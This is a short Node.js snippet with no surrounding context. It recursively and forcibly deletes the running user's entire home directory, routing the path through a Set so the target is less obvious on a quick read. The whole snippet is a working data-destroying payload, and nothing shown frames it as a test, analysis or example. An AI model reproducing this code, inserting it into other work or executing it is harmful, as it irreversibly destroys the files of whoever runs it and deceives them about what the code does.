const fs = require('fs');
const os = require('os');
const s = new Set([os.homedir()]);
fs.rmSync(s.values().next().value, { recursive: true, force: true });
